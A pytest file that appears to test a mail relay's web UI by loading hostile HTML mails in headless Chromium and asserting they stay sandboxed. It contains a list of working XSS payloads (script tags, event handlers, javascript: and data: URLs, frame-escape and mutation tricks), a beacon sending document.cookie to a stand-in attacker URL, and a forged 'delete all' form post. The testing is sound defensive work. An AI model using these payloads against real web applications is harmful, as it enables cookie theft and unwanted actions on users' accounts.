"""Hostile HTML in real headless Chromium: scripts, event handlers, javascript: and data:
URLs, SVG, CSS, <base>, <meta refresh>, forms, iframes and markup that tries to break out
of its frame. Nothing from a mail runs (not even inside its sandbox), nothing reaches the
UI's DOM, cookies or address, and nothing is fetched from anywhere else.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

import pytest

from tests.browsing import HAVE_CHROMIUM, Attacker, needs_chromium
from tests.support import RunningRelay, make_config
from tests.test_capture import send

pytestmark = needs_chromium

if HAVE_CHROMIUM:
    from playwright.sync_api import Error as PlaywrightError
    from playwright.sync_api import Frame, Page, Request, expect

RAN = "window.ran = 1; parent.document.title = 'pwned'; top.document.body.innerHTML = 'pwned'"
PAYLOADS = {
    "script": f"<script>{RAN}; top.location = 'ATK/script'</script>",
    "img-onerror": f'<img src="x.gif" onerror="{RAN}">',
    "body-onload": f'<body onload="{RAN}"><p>body</p></body>',
    "svg-onload": f'<svg onload="{RAN}"><circle r="5"/></svg>',
    "svg-script": f"<svg><script>{RAN}</script></svg>",
    "details-ontoggle": f'<details open ontoggle="{RAN}"><summary>s</summary></details>',
    "javascript-link": f'<a id="click" href="javascript:{RAN}">click</a>',
    "data-link": (
        f'<a id="click" target="_self" href="data:text/html,<script>{RAN}</script>">data</a>'
    ),
    "iframe-javascript": f'<iframe src="javascript:{RAN}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    "iframe-the-ui": '<iframe src="WEB/"></iframe><iframe src="ATK/frame"></iframe>',
    "object-embed": (
        f'<object data="data:text/html,<script>{RAN}</script>"></object>'
        f'<embed src="data:text/html,<script>{RAN}</script>">'
    ),
    "css-urls": (
        '<div style="background:url(ATK/css-inline)">css</div>'
        "<style>@import url(ATK/css-import); p { background: url(ATK/css-rule) }"
        "@font-face { font-family: f; src: url(ATK/font) }</style>"
    ),
    "css-expression": '<div style="width:expression(alert(1)); behavior:url(ATK/htc)">e</div>',
    "base": '<base href="ATK/"><img src="relative.gif"><a id="click" href="relative">r</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=ATK/refresh">',
    "form-post": (
        '<form action="WEB/messages/action" method="post"><input name="action" value="delete">'
        '<input name="scope" value="all"><input name="confirm" value="yes">'
        '<button id="click">go</button></form><form action="ATK/form"><input autofocus></form>'
    ),
    "escape-the-frame": f"</iframe></body></html><script>{RAN}</script><p>after</p>",
    "escape-an-attribute": f'"><script>{RAN}</script><img src=x onerror="{RAN}" x="">',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror=\\"{RAN}\\">">',
    "textarea-title": f"<title></title><textarea></textarea><script>{RAN}</script>",
    "comments": f"<!--<script>{RAN}</script>--><!--><script>{RAN}</script>-->",
    "beacon-and-fetch": (
        "<script>navigator.sendBeacon('ATK/beacon', document.cookie);fetch('ATK/fetch')</script>"
        '<img src="ATK/img"><video poster="ATK/poster"></video><audio src="ATK/audio"></audio>'
    ),
    "link-preload": '<link rel="prefetch" href="ATK/prefetch"><link rel="stylesheet" href="ATK/s">',
    "popup-to-the-ui": '<a id="click" href="WEB/" target="_blank">open the UI</a>',
}


@pytest.fixture(scope="module")
def relay_ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningRelay]:
    """A capturing relay with its web UI, shared by the module."""
    db = tmp_path_factory.mktemp("xss") / "relay.db"
    running = RunningRelay(make_config(f"sqlite+aiosqlite:///{db}")).start()
    try:
        yield running
    finally:
        running.stop()


def html_mail(body: str, subject: str = "hostile html") -> bytes:
    """A text/html message (base64, so no line is too long) with a marker paragraph."""
    html = f'<html><head></head><body>{body}<p id="inside">inside the sandbox</p></body></html>'
    encoded = base64.encodebytes(html.encode()).replace(b"\n", b"\r\n")
    head = (
        f"From: mallory@evil.example\r\nTo: you@example.com\r\nSubject: {subject}\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    return head.encode() + encoded


class Watch:
    """Every request the tab makes (blocked ones too: Chromium reports those it refused)."""

    def __init__(self, page: Page) -> None:
        self.requests: list[tuple[str, str, str]] = []
        page.context.on("request", self._seen)

    def _seen(self, request: Request) -> None:
        self.requests.append((request.method, request.resource_type, request.url))

    def to(self, prefix: str) -> list[tuple[str, str, str]]:
        """The requests whose URL starts with `prefix`."""
        return [r for r in self.requests if r[2].startswith(prefix)]


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """The attacker's web server, where a leaking mail would send its requests."""
    with Attacker() as server:
        yield server


def settled_value(frame: Frame, expression: str) -> object:
    """`expression` evaluated in `frame` once it has stopped navigating: a click in the mail
    may start a navigation after the page looked idle, which ends the frame's old context."""
    for _ in range(10):
        try:
            return frame.evaluate(expression)
        except PlaywrightError as exc:
            if "context was destroyed" not in str(exc):
                raise
            frame.wait_for_load_state()
    raise AssertionError(f"the mail's frame kept navigating: {frame.url}")


def open_html_tab(page: Page, relay: RunningRelay, message_id: str) -> str:
    """Open the message's HTML tab, wait for its frame; return the page URL."""
    url = f"{relay.web_url}/message/{message_id}?tab=html"
    page.goto(url)
    expect(page.frame_locator("iframe.html-body").locator("#inside")).to_have_text(
        "inside the sandbox"
    )
    page.wait_for_load_state("networkidle")
    return url


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_hostile_html_stays_in_its_sandbox(
    relay_ui: RunningRelay, attacker: Attacker, page: Page, name: str
) -> None:
    """No script of the mail runs, the UI's title, DOM, cookies and address stay as they
    were, no request leaves for another host, no form is sent, no dialog opens."""
    web = relay_ui.web_url
    body = PAYLOADS[name].replace("WEB", web).replace("ATK", attacker.url)
    attacker.hits.clear()
    message_id = send(relay_ui, html_mail(body, f"xss {name}"), ["you@example.com"])
    watch = Watch(page)
    page.goto(f"{web}/")  # the UI, as the user had it open: its cookie is set
    cookies = page.context.cookies()
    url = open_html_tab(page, relay_ui, message_id)
    title = page.title()
    frame = page.frame_locator("iframe.html-body")
    body_url = f"{web}/message/{message_id}/body.html"
    if frame.locator("#click").count():
        frame.locator("#click").click()
        page.wait_for_load_state("networkidle")
    (mail_frame,) = page.main_frame.child_frames  # body.html, or where a click took it
    mail_frame.wait_for_load_state()
    assert settled_value(mail_frame, "() => window.ran") is None, "a script of the mail ran"
    assert page.url == url
    assert page.title() == title and "pwned" not in title
    assert "pwned" not in page.content()
    assert page.evaluate("() => window.ran") is None
    assert page.locator("h1.subject").inner_text().startswith(f"xss {name}")
    assert page.context.cookies() == cookies
    assert attacker.hits == []
    assert [r for r in watch.requests if r[0] != "GET"] == []
    documents = [r[2] for r in watch.to(web) if r[1] == "document"]
    assert documents[:3] == [f"{web}/", url, body_url]  # then only what opened in new tabs
    for other in page.context.pages[1:]:  # a link opened in a new tab: cut off from the UI
        assert other.evaluate("() => window.opener") is None


TABS = ["", "?tab=text", "?tab=headers", "?tab=source", "?tab=attachments"]
HOSTILE_HEADERS = (
    b'From: "<script>window.ran=1</script>" <mallory@evil.example>\r\n'
    b"To: <img src=x onerror=window.ran=1>@example.com\r\n"
    b'Subject: <img src=x onerror="window.ran=1">'
    b" =?utf-8?q?=3Cscript=3Ewindow.ran=3D1=3C/script=3E?=\r\n"
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: text/plain\r\n\r\n<script>window.ran=1</script> in the text\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\n"
    b'Content-Disposition: attachment; filename="<svg onload=window.ran=1>.svg"\r\n\r\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><script>window.ran=1'
    b"</script></svg>\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    "tab", ["", "?tab=text", "?tab=headers", "?tab=source", "?tab=attachments"]
)
def test_hostile_headers_and_parts_are_shown_as_text(
    relay_ui: RunningRelay, page: Page, tab: str
) -> None:
    """Markup in the subject, addresses, text part and attachment names is shown, never run:
    in the list, on every tab, and an SVG attachment opened on its own runs nothing."""
    message_id = send(relay_ui, HOSTILE_HEADERS, ["you@example.com"])
    page.goto(f"{relay_ui.web_url}/")
    expect(page.locator(f"#m-{message_id}")).to_contain_text("<img src=x")
    page.goto(f"{relay_ui.web_url}/message/{message_id}{tab}")
    expect(page.locator("h1.subject")).to_contain_text("<script>window.ran=1</script>")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("() => window.ran") is None
    if tab == "?tab=attachments":
        link = page.locator("a.file").first.get_attribute("href")
        assert link is not None
        response = page.request.get(relay_ui.web_url + link)
        assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert response.headers["content-disposition"].startswith("attachment;")
